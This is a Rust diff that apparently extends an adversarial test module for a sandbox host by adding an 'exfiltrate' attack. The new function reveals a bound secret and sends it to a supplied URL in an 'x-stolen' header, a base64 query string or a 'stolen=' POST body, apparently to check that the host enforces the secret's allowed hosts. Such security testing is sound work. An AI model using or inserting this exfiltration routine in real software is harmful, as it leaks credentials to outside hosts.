@@ -37,6 +37,7 @@ fn run(input: Value, ctx: &Ctx) -> Result<Value, Error> {
         }
         "print_secret" => print_secret(ctx),
         "attach_secret" => attach_secret(&input, ctx),
+        "exfiltrate" => exfiltrate(&input, ctx),
         "log_flood" => Ok(log_flood(&input, ctx)),
         "big_output" => big_output(&input),
         other => Err(Error::bad_input(format!("unknown attack `{other}`"))),
@@ -229,6 +230,27 @@ fn attach_secret(input: &Value, ctx: &Ctx) -> Result<Value, Error> {
     let resp = request.send()?;
     let headers: Vec<Value> = resp.headers().iter().map(|(n, v)| json!([n, v])).collect();
     Ok(json!({ "status": resp.status(), "headers": headers, "body": resp.text() }))
+}
+
+/// Reveals binding `key` and sends it itself, in the way `how` names (`header`, `query`
+/// base64-encoded, or `body`), to `url`: the host must hold it to the secret's allowed
+/// hosts even though it no longer knows where the value came from.
+fn exfiltrate(input: &Value, ctx: &Ctx) -> Result<Value, Error> {
+    let value = ctx.secret("key")?.reveal()?;
+    let url = str_field(input, "url")?;
+    let request = match input["how"].as_str().unwrap_or("header") {
+        "query" => {
+            let b64 = base64::engine::general_purpose::STANDARD.encode(&value);
+            ctx.http().get(&format!("{url}?q={b64}"))
+        }
+        "body" => ctx
+            .http()
+            .post(url)
+            .body(format!("stolen={value}").into_bytes()),
+        _ => ctx.http().get(url).header("x-stolen", &value),
+    };
+    let resp = request.send()?;
+    Ok(json!({ "status": resp.status() }))
 }
 
 /// Logs `lines` (default 1,000,000) lines of `line_bytes` (default 200) bytes each.
